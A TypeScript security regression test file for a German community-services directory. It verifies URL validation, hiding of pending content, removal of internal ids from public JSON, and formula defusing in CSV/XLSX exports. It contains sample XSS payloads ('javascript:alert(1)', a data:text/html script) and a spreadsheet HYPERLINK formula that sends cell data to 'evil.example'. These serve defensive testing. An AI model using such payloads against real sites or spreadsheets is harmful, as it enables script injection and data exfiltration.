import { afterAll, beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import { sql } from "drizzle-orm";
import { Client, startTestServer, type TestServer } from "../support/server";
import { sharedData } from "~/kernel/config";
import { formulaFree, readGermanCsv, readOpenCsv } from "../support/csv";

// Issue 10's smaller leaks, each against the production build with all demo data: non-web URLs,
// pending content on public pages, internal ids in public JSON, formulas in CSV downloads.
let s: TestServer;
beforeAll(async () => {
  s = await startTestServer({ modules: true });
});
afterAll(async () => {
  await s?.close();
});

const PW = "Teilhabe-Demo-2026";
const query = async <T>(q: ReturnType<typeof sql>) => ((await s.db.orm.execute(q)) as unknown as { rows: T[] }).rows;
const text = async (path: string) => {
  const res = await fetch(s.url + path);
  expect(res.status, path).toBe(200);
  return res.text();
};

async function createToken(tenant: string, canWrite: boolean): Promise<string> {
  const c = new Client(s.url);
  await c.login(`admin.${tenant}@example.org`, PW);
  const res = await c.post(`/t/${tenant}/verwaltung/api-tokens`, {
    intent: "create",
    name: `Leaks ${Math.random()}`,
    ...(canWrite ? { canWrite: "1" } : {}),
  });
  return (await res.text()).match(/th_[A-Za-z0-9_-]{43}/)![0];
}

interface Offer {
  id: string;
  provider: string | null;
  website: string | null;
  title: string;
}
const offers = async (tenant: string, params = ""): Promise<{ offers: Offer[]; total: number }> =>
  (await fetch(`${s.url}/api/v1/t/${tenant}/offers?limit=1000${params}`)).json();

describe("URL fields", () => {
  it("accept only web addresses in the organisations form and API", async () => {
    const editor = new Client(s.url);
    await editor.login("editor.aachen@example.org", PW);
    for (const website of ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "ftp://example.org"]) {
      const res = await editor.post("/t/aachen/verwaltung/organisationen", {
        name: "Skript e.V.",
        kind: "verein",
        website,
      });
      expect(res.status, website).toBe(400);
      expect(await res.text()).toContain("Bitte geben Sie eine gültige Internetadresse an");
    }
    const token = await createToken("aachen", true);
    const api = await fetch(`${s.url}/api/v1/t/aachen/organisations`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
      body: JSON.stringify({ name: "Skript e.V.", kind: "verein", website: "javascript:alert(1)" }),
    });
    expect(api.status).toBe(422);
    expect(await query(sql`SELECT id FROM organisations WHERE name = 'Skript e.V.'`)).toEqual([]);
    // A web address still works.
    const ok = await editor.post("/t/aachen/verwaltung/organisationen", {
      name: "Skript e.V.",
      kind: "verein",
      website: "https://skript.example.org",
    });
    expect(ok.status).toBe(200);
    expect(await query(sql`SELECT website FROM organisations WHERE name = 'Skript e.V.'`)).toEqual([
      { website: "https://skript.example.org" },
    ]);
  });

  it("never emit a stored javascript: or data: URL in the API, the JSON-LD, downloads or pages", async () => {
    const offer = (await offers("aachen")).offers.find((o) => o.provider)!;
    const bad = "javascript:alert(1)";
    const data = "data:text/html,<script>alert(2)</script>";
    await s.db.orm.execute(sql`UPDATE atlas_entries SET website = ${bad} WHERE id = ${offer.id}`);
    await s.db.orm.execute(
      sql`UPDATE organisations SET website = ${data} WHERE name = ${offer.provider}
        AND tenant_id = (SELECT id FROM tenants WHERE slug = 'aachen')`,
    );
    const leaks = (body: string) => body.includes("javascript:alert") || body.includes("data:text/html");

    const page = await text(`/t/aachen/angebote/${offer.id}`);
    expect(page).toContain('type="application/ld+json"');
    expect(leaks(page)).toBe(false);
    expect(leaks(await text(`/t/aachen/angebote/${offer.id}.data`))).toBe(false);
    expect((await offers("aachen")).offers.find((o) => o.id === offer.id)!.website).toBeNull();
    expect(leaks(await text("/t/aachen/angebote/daten.json"))).toBe(false);
    expect(leaks(await text("/t/aachen/angebote/daten.csv"))).toBe(false);

    const read = await createToken("aachen", false);
    const orgs = await (
      await fetch(`${s.url}/api/v1/t/aachen/organisations`, { headers: { authorization: `Bearer ${read}` } })
    ).json();
    expect(orgs.organisations.find((o: { name: string }) => o.name === offer.provider).website).toBeNull();

    // Staff still see what is stored, as text: never as a link.
    const editor = new Client(s.url);
    await editor.login("editor.aachen@example.org", PW);
    const register = await (await editor.get("/t/aachen/verwaltung/organisationen")).text();
    expect(register).not.toMatch(/href="(javascript|data):/i);
  });
});

describe("pending content", () => {
  it("a partner's pending offer shows its Stadtteil nowhere in public until it is approved", async () => {
    const partner = new Client(s.url);
    await partner.login("partner.aachen@example.org", PW);
    const title = "Nähcafé im Geheimviertel";
    const res = await partner.post("/t/aachen/verwaltung/angebote/neu", {
      kind: "offer",
      title_de: title,
      desc_de: "Noch nicht freigegeben",
      handlungsfelder: "sprache_bildung",
      targetGroups: "women",
      languages: "ar",
      germanLevel: "none",
      cost: "free",
      place0_street: "Verborgene Gasse 1",
      place0_postcode: "52062",
      place0_city: "Aachen",
      place0_areaName: "Geheimviertel",
    });
    expect(res.status).toBe(302);
    const id = res.headers.get("location")!.match(/angebote\/([0-9a-f-]{36})/)![1];

    // Every public view of the directory: pages with their filter lists, their loader data, the map,
    // the downloads and the API. The Stadtteil filter's own answers echo the name asked for, so
    // there only the title counts.
    const publicViews = async () =>
      [
        await text("/t/aachen/angebote"),
        await text("/t/aachen/angebote.data"),
        await text("/t/aachen/angebote/karte"),
        await text("/t/aachen/angebote/daten.json"),
        await text("/t/aachen/angebote/daten.csv"),
        await text("/api/v1/t/aachen/offers?limit=1000"),
      ].join("\n");
    const filtered = async () =>
      [
        await text("/t/aachen/angebote?stadtteil=Geheimviertel"),
        await text("/t/aachen/angebote/karte?stadtteil=Geheimviertel"),
        await text("/api/v1/t/aachen/offers?area=Geheimviertel"),
      ].join("\n");
    const before = await publicViews();
    expect(before).not.toContain("Geheimviertel");
    expect(before).not.toContain(title);
    expect(await filtered()).not.toContain(title);
    expect((await fetch(`${s.url}/t/aachen/angebote/${id}`)).status).toBe(404);

    // Once approved, the same views show it: the check above looks where it would appear.
    const editor = new Client(s.url);
    await editor.login("editor.aachen@example.org", PW);
    const [rev] = await query<{ id: string }>(
      sql`SELECT id FROM atlas_revisions WHERE entry_id = ${id} AND status = 'pending'`,
    );
    const ok = await editor.post("/t/aachen/verwaltung/angebote/freigabe", { revisionId: rev.id, intent: "approve" });
    expect(ok.status).toBe(200);
    const after = await publicViews();
    expect(after).toContain("Geheimviertel");
    expect(after).toContain(title);
    expect(await filtered()).toContain(title);
    expect((await offers("aachen", "&area=Geheimviertel")).total).toBe(1);
  });
});

describe("public offer JSON", () => {
  it("carries the entry id but no internal tenant, user, organisation or place ids", async () => {
    const offer = (await offers("aachen")).offers.find((o) => o.provider)!;
    const [partner] = await query<{ id: string }>(sql`SELECT id FROM users WHERE email = 'partner.aachen@example.org'`);
    await s.db.orm.execute(sql`UPDATE atlas_entries SET created_by = ${partner.id} WHERE id = ${offer.id}`);
    const [ids] = await query<{ tenant_id: string; organisation_id: string }>(
      sql`SELECT tenant_id, organisation_id FROM atlas_entries WHERE id = ${offer.id}`,
    );
    const places = await query<{ id: string }>(sql`SELECT id FROM atlas_places WHERE entry_id = ${offer.id}`);
    const internal = [ids.tenant_id, ids.organisation_id, partner.id, ...places.map((p) => p.id)].filter(Boolean);
    expect(internal.length).toBeGreaterThanOrEqual(3);
    for (const path of [
      `/t/aachen/angebote/${offer.id}`,
      `/t/aachen/angebote/${offer.id}.data`,
      `/t/aachen/angebote`,
      `/t/aachen/angebote.data`,
      `/t/aachen/angebote/karte`,
      "/t/aachen/angebote/daten.json",
      "/api/v1/t/aachen/offers?limit=1000",
    ]) {
      const body = await text(path);
      for (const x of internal) expect(body.includes(x), `${path} contains ${x}`).toBe(false);
    }
    expect(await text(`/t/aachen/angebote/${offer.id}.data`)).toContain(offer.id);
  });
});

// The monitoring's exports need the Köln demo statistics (SHARED_DATA_DIR), which CI provides.
describe.skipIf(!sharedData("koeln"))("CSV and XLSX downloads", () => {
  it("defuse an area name that starts a formula in every monitoring export", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1;"Klick")';
    const [area] = await query<{ key: string; level: string }>(
      sql`UPDATE mon_areas SET name = ${formula} WHERE key = '101'
        AND tenant_id = (SELECT id FROM tenants WHERE slug = 'koeln') RETURNING key, level`,
    );
    expect(area).toBeDefined();
    const german = [
      `/t/koeln/monitoring/gebiet/${area.level}/${area.key}/export?format=csv`,
      `/t/koeln/monitoring/indikator/mh_anteil/export?format=csv&tabelle=vergleich&ebene=${area.level}`,
      "/t/koeln/monitoring/ziele/export?format=csv",
    ];
    let seen = 0;
    for (const path of german) {
      const body = await text(path);
      if (body.includes("HYPERLINK")) seen++;
      expect(formulaFree(readGermanCsv(body)), path).toBe(true);
    }
    const open = await text(
      `/t/koeln/monitoring/indikator/mh_anteil/export?format=csv&variante=offen&ebene=${area.level}`,
    );
    expect(open).toContain("HYPERLINK");
    expect(formulaFree(readOpenCsv(open))).toBe(true);
    expect(seen).toBe(2);

    // XLSX cells hold the name as a text cell: a spreadsheet shows it and never runs it.
    for (const path of [
      `/t/koeln/monitoring/gebiet/${area.level}/${area.key}/export?format=xlsx`,
      `/t/koeln/monitoring/indikator/mh_anteil/export?format=xlsx&tabelle=vergleich&ebene=${area.level}`,
    ]) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(await (await fetch(s.url + path)).arrayBuffer());
      const cells: ExcelJS.Cell[] = [];
      wb.worksheets[0].eachRow((row) => row.eachCell((c) => cells.push(c)));
      const named = cells.filter((c) => String(c.value).includes("HYPERLINK"));
      expect(named.length, path).toBeGreaterThan(0);
      expect(cells.every((c) => c.type !== ExcelJS.ValueType.Formula)).toBe(true);
    }
  });
});
